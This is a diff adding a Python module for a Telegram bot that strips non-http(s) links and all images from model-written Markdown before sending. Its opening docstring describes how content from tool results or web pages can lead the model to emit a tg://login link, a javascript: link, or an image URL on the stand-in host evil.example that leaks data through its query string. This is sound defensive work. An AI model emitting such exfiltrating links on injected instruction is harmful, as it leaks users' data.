@@ -1,0 +1,96 @@
+"""The one output policy for links, for every way an answer reaches Telegram: plain messages
+(render/markdown.py), rich messages (bot/features/rich), drafts, groups, guest queries and
+business chats all pass through one of the two functions below.
+
+An answer's Markdown is the model's, and the model repeats what tool results, documents and web
+pages say: `[Verify](tg://login?token=…)` asks Telegram to log the reader in,
+`[Olga](tg://user?id=42)` mentions a stranger, `[pay](javascript:…)` is a script, and
+`![p](https://evil.example/p.png?leak=ORDER-A-1)` in a rich message is fetched by the reader's
+app without a click, carrying whatever the model put in its query (issue 61). So:
+
+- a link is kept only when its URL is http(s) (the bot's own citation links are: a source's
+  `url` is a web address); any other scheme leaves the link's text as plain text, without the
+  URL;
+- an image from the answer is dropped: its alt text stays as plain text, its URL goes nowhere.
+"""
+
+from __future__ import annotations
+
+import re
+
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+# markdown-it leaves `javascript:`, `vbscript:`, `file:` and `data:` links as literal text, but
+# the policy, not the parser, decides: another Markdown reader (Telegram's own, for rich
+# messages) may take them for links. So every link is parsed as one and judged here.
+_PARSER.validateLink = lambda url: True  # type: ignore[method-assign]
+_SCHEMES = ("http://", "https://")
+_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
+# What markdown-it reads as a link or an image: `[text](url)`, `![alt](url)`, `<scheme:…>` and
+# reference links `[text][label]` with `[label]: url` defined elsewhere.
+_MAYBE_LINK = re.compile(r"\]\(|\]\s*\[|^[ \t]{0,3}\[[^\]]+\]:|<[A-Za-z][A-Za-z0-9+.-]{1,31}:",
+                         re.MULTILINE)
+# An inline link or image: its label may hold escaped brackets and one level of nesting
+# (`[![img](a)](b)`); the URL is bare or in <>, with an optional title.
+_LABEL = r"(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*"
+_INLINE = re.compile(
+    r"(?P<bang>!?)\[(?P<label>" + _LABEL + r")\]"
+    r"\(\s*(?:<(?P<angled>[^<>\n]*)>|(?P<bare>(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*))"
+    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
+)
+_DEFINITION = re.compile(r"^[ \t]{0,3}\[(?:[^\]\\]|\\.)+\]:[ \t]*<?(?P<url>[^\s>]*)>?.*$",
+                         re.MULTILINE)
+_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
+
+
+def has_scheme(url: str) -> bool:
+    """Whether `url` names a scheme (`tg:`, `mailto:`); a relative path names none."""
+    return _SCHEME.match(url.strip()) is not None
+
+
+def allowed_link(url: str) -> bool:
+    """Whether a link to `url` may reach Telegram: http(s) only, whatever its letter case."""
+    return url.strip().lower().startswith(_SCHEMES)
+
+
+def safe_markdown(markdown: str) -> str | None:
+    """The Markdown with every link the policy refuses made plain text and every image dropped
+    (alt text kept), for paths that send Markdown itself (rich messages); None when a refused
+    link survives the rewrite (the caller then sends the rendered text, which
+    `render_markdown` cleans token by token).
+
+    The rewrite is judged by the parser, not trusted: the result is parsed again and must
+    hold no refused link and no image."""
+    if not _MAYBE_LINK.search(markdown) or _clean(_PARSER.parse(markdown)):
+        return markdown
+    rewritten = _DEFINITION.sub(
+        lambda m: m.group(0) if allowed_link(m.group("url")) else "", markdown
+    )
+    previous = None
+    while previous != rewritten:  # a nested link's label is rewritten on the next pass
+        previous = rewritten
+        rewritten = _INLINE.sub(_inline, rewritten)
+    rewritten = _AUTOLINK.sub(
+        lambda m: m.group(0) if allowed_link(m.group("url")) else m.group("url"), rewritten
+    )
+    return rewritten if _clean(_PARSER.parse(rewritten)) else None
+
+
+def _inline(match: re.Match[str]) -> str:
+    url = match.group("angled") if match.group("angled") is not None else match.group("bare")
+    if match.group("bang") or not allowed_link(url or ""):
+        return match.group("label")
+    return match.group(0)
+
+
+def _clean(tokens: list[Token]) -> bool:
+    """Whether the parsed Markdown holds no image and no link the policy refuses."""
+    for token in tokens:
+        for child in token.children or ():
+            if child.type == "image":
+                return False
+            if child.type == "link_open" and not allowed_link(str(child.attrs.get("href", ""))):
+                return False
+    return True
